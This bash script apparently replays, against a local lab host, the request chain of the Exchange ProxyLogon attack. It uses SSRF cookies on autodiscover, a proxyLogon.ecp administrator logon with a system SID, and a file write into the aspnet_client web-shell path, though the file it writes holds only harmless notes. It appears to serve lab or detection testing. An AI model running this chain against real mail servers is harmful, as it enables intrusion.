#!/usr/bin/env bash
# curl version of the lab chain
set -euo pipefail
PORT="${1:-8080}"
BASE="http://127.0.0.1:${PORT}"
UA='Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36'
NOTE=/aspnet_client/system_web/readme_91453.txt
PAD=$(printf 'A%.0s' $(seq 1 37))

browser=(-H "User-Agent: ${UA}" -H 'x-requested-with: XMLHttpRequest' -H 'Accept: */*' -H 'accept-language: en-US,en;q=0.9' -H 'connection: close')

code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 10 "${browser[@]}" \
  -H 'cookie: X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522' \
  "${BASE}/autodiscover/autodiscover.json?Pad=${PAD}&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720")
[ "$code" -lt 500 ] || exit 1

who=$(curl -s --max-time 10 -X POST \
  -H "user-agent: ${UA}" -H 'msexchlogonmailbox: S-1-5-20' -H 'content-type: application/json' \
  -H 'X-BEResource: localhost@lab.invalid/ecp/proxyLogon.ecp' \
  --data-raw '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}' \
  "${BASE}/ecp/proxyLogon.ecp")
who=${who:-anonymous}

printf 'note 1 of 3 for %s\nnote 2 of 3 for %s\nnote 3 of 3 for %s' "$who" "$who" "$who" |
  curl -s -o /dev/null --max-time 10 -X POST -H "user-agent: ${UA}" -H "X-Note-Path: ${NOTE}" \
    -H 'Content-Type: text/plain' --data-binary @- "${BASE}${NOTE}"

curl -s --max-time 10 "${browser[@]}" "${BASE}${NOTE}" | head -c 1024 | wc -c
